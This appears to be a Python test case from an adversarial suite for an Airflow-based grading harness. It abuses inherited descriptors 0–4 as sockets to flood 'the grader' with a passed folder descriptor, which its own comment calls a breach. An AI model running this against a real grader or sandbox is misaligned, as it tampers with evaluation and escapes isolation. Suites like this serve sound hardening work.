"""Sends descriptors through every channel to the grader, by the hundred, and a folder's among them."""

import os
import socket

from airflow_attack import attack, tried


def work() -> None:
    folder = os.open(".", os.O_RDONLY)
    sent = 0
    for number in range(5):
        try:
            line = socket.socket(fileno=os.dup(number))
        except OSError as error:
            tried(f"descriptor {number}: {error}")
            continue
        line.setblocking(False)
        for _ in range(100):
            try:
                # A whole line for the logs; for the wire a length of nothing, which is a breach.
                socket.send_fds(line, [b"\n" if number in (1, 2, 3) else b""], [folder] * 250)
                sent += 250
            except OSError as error:
                tried(f"channel {number} after {sent}: {error}")
                break
    tried(f"{sent} descriptors")


dag = attack(work)
